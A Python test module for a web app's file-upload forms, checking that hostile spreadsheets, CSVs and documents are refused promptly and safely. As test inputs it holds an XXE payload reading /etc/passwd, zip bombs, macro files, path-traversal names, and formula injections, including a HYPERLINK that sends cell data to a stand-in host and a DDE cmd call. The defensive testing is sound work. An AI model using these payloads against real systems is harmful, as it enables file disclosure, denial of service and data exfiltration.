"""Hostile files through the desk's real pages: each is refused with a sentence in time, and the desk goes on."""

import io
import tempfile
import time
import zipfile
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from functools import cache
from pathlib import Path

import openpyxl
import pytest
from desk_village import PASSWORD, Browser, make_desk, upload
from intake_samples import XLSX_MAIN, content_types, ole, xlsx_parts, zipped
from test_intake_upload import HOSTILE

from content.settings import Settings
from deploy.wiring import wire_village

WORDS = "写到一半的话，不能丢"
LIMIT_S = 25
_XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'


class SignedIn(Browser):
    """The agent's browser, and the folder where temporary files would be left lying."""

    temp: Path


@pytest.fixture(scope="module")
def agent(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SignedIn]:
    """At the village as run.py wires it, the tokens of its forms included."""
    with pytest.MonkeyPatch.context() as patch, ExitStack() as running:
        desk = running.enter_context(make_desk(tmp_path_factory.mktemp("village")))
        app = wire_village(desk.village, Settings(speech_command=""), running, sync_every_s=3600)
        browser = SignedIn(app.test_client())
        answer = browser.send("/sign-in?next=/desk/", name="zhou", password=PASSWORD)
        assert answer.status_code == 303, answer.text
        browser.temp = tmp_path_factory.mktemp("temp")
        patch.setattr(tempfile, "tempdir", str(browser.temp))
        for name in ("TMPDIR", "TEMP", "TMP"):
            patch.setenv(name, str(browser.temp))
        yield browser


def _rows(rows: int, columns: int) -> bytes:
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet()
    for number in range(rows):
        sheet.append([number] * columns)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _csv(rows: int, columns: int) -> bytes:
    return ("序号" + ",金额" * (columns - 1) + "\n" + ("1" + ",2" * (columns - 1) + "\n") * rows).encode()


def _far_cell() -> bytes:
    return zipped(xlsx_parts('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'))


def _xlsm() -> bytes:
    main = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    parts = {"[Content_Types].xml": content_types(main, "xl/workbook.xml"), "xl/vbaProject.bin": b"x"}
    return zipped(xlsx_parts("") | parts)


def _cut(data: bytes) -> bytes:
    return data[: len(data) // 2]


@cache
def _made(make: Callable[[], bytes]) -> bytes:
    """A file that several tests send; packing a bomb takes longer than refusing it."""
    return make()


# What is over 20 MiB is not read at all and has its own test.
NOTICES = {title: (make, name) for title, (make, name, code) in HOSTILE.items() if code != "too_big"}
# name -> (content, file name)
SHEETS: dict[str, tuple[Callable[[], bytes], str]] = {
    "one cell at XFD1048576": (_far_cell, "账.xlsx"),
    "25,000 rows": (lambda: _rows(25_000, 3), "账.xlsx"),
    "200 columns": (lambda: _rows(5, 200), "账.xlsx"),
    "25,000 rows of CSV": (lambda: _csv(25_000, 3), "账.csv"),
    "200 columns of CSV": (lambda: _csv(5, 200), "账.csv"),
    "XXE in the shared texts": (lambda: zipped(xlsx_parts("") | {"xl/sharedStrings.xml": _XXE}), "账.xlsx"),
    "XXE in the workbook": (lambda: zipped(xlsx_parts("") | {"xl/workbook.xml": _XXE}), "账.xlsx"),
    "XXE in the styles": (lambda: zipped(xlsx_parts("") | {"xl/styles.xml": _XXE}), "账.xlsx"),
    "zip bomb": (lambda: zipped(xlsx_parts("") | {"xl/media/a.png": bytes(150_000_000)}), "账.xlsx"),
    "sheet that is a bomb": (lambda: zipped(xlsx_parts("<row/>" * 9_000_000)), "账.xlsx"),
    "macros": (_xlsm, "账.xlsm"),
    "macros named .xlsx": (_xlsm, "账.xlsx"),
    "a password": (lambda: ole("EncryptionInfo", "EncryptedPackage"), "账.xlsx"),
    "old Excel that is noise": (lambda: ole("Workbook", tail=bytes(range(256)) * 40), "账.xls"),
    "path with ..": (lambda: zipped(xlsx_parts("") | {"xl/../../../x.xml": "x"}), "账.xlsx"),
    "cut in half": (lambda: _cut(_rows(50, 3)), "账.xlsx"),
    "workbook without sheets": (
        lambda: zipped({"[Content_Types].xml": content_types(XLSX_MAIN, "xl/workbook.xml")}),
        "账.xlsx",
    ),
    "a program": (lambda: b"MZ\x90\x00" + bytes(100), "账.xlsx"),
    "CSV of zeros": (lambda: bytes(5000), "账.csv"),
    "CSV of one line of 15 MiB": (lambda: b"1," * (15 * 512 * 1024), "账.csv"),
    "CSV of open quotes": (lambda: b'"' + b"a\n" * 400_000, "账.csv"),
    "Excel with something behind": (lambda: _rows(5, 3) + b"MZ" * 500, "账.xlsx"),
    "Word named as Excel": (lambda: _renamed(), "账.xlsx"),
}


def _renamed() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
    return out.getvalue()


def _refused(agent: SignedIn, page: str, data: bytes, name: str, field: str, **fields: str) -> str:
    """Send the file with the form of `page`; the answer, which must be a refusal in words and in time."""
    start = time.monotonic()
    answer = agent.send(page, **{**fields, field: upload(data, name)})
    took = time.monotonic() - start
    assert answer.status_code == 422, (answer.status_code, answer.location)
    assert took < LIMIT_S
    assert "is-alarm" in answer.text  # the sentence that says why
    for trace in ("Traceback", "Error:", "/content/intake", "python"):
        assert trace not in answer.text
    assert agent.get("/desk/").status_code == 200
    assert list(agent.temp.iterdir()) == []
    return answer.text


@pytest.mark.parametrize(("make", "name"), NOTICES.values(), ids=NOTICES.keys())
def test_hostile_file_is_refused_as_a_notice_and_the_form_is_kept(
    agent: SignedIn, make: Callable[[], bytes], name: str
) -> None:
    page = _refused(agent, "/desk/notices/new", make(), name, "files", item="V4", text=WORDS)

    assert WORDS in page
    assert 'value="V4" selected' in page


@pytest.mark.parametrize("page", ["/desk/statements/new", "/desk/rolls/new"])
@pytest.mark.parametrize(("make", "name"), SHEETS.values(), ids=SHEETS.keys())
def test_hostile_sheet_is_refused_as_an_account_and_as_a_roll(
    agent: SignedIn, page: str, make: Callable[[], bytes], name: str
) -> None:
    _refused(agent, page, _made(make), name, "file", **({"item": "S2"} if "rolls" in page else {}))


@pytest.mark.parametrize(
    "page", ["/desk/notices/new", "/desk/statements/new", "/desk/rolls/new"], ids=lambda page: page[6:]
)
def test_file_of_30_mib_is_refused_unread(agent: SignedIn, page: str) -> None:
    field = "files" if "notices" in page else "file"
    start = time.monotonic()

    answer = agent.send(page, **{field: upload(b"1,2,3\n" * 5 * 1024 * 1024, "账.csv")})

    assert answer.status_code == 413
    assert "最多 20 MB" in answer.text
    assert f'href="{page}"' in answer.text  # the way back to the form
    assert time.monotonic() - start < LIMIT_S
    assert agent.get("/desk/").status_code == 200
    assert list(agent.temp.iterdir()) == []


@pytest.mark.parametrize(
    "name",
    ["../../../etc/passwd.docx", "C:\\Windows\\x.docx", "名" * 300 + ".docx", "<b>.docx"],
)
def test_hostile_file_name_leads_nowhere(agent: SignedIn, name: str) -> None:
    page = _refused(agent, "/desk/notices/new", b"MZ" + bytes(100), name, "files", item="V4", text=WORDS)

    assert "<b>" not in page
    assert "passwd" not in page


def test_formula_text_in_a_cell_stays_text(agent: SignedIn) -> None:
    formulas = ('=HYPERLINK("http://x.example/?"&A1)', "=cmd|' /C calc'!A0", "@SUM(A1)", "+1+1", "-2+3")
    book = openpyxl.Workbook()
    for number, formula in enumerate(formulas, start=1):
        book.active.cell(number, 1, "说明")
        cell = book.active.cell(number, 2, formula)
        cell.data_type = "s"
    out = io.BytesIO()
    book.save(out)

    answer = agent.send("/desk/notices/new", item="V4", files=upload(out.getvalue(), "登记.xlsx"))
    page = agent.get(answer.location).text

    assert answer.status_code == 303, answer.text
    for text in ("cmd|", "HYPERLINK(", "@SUM(A1)"):
        assert text in page
    assert 'href="http://x.example' not in page
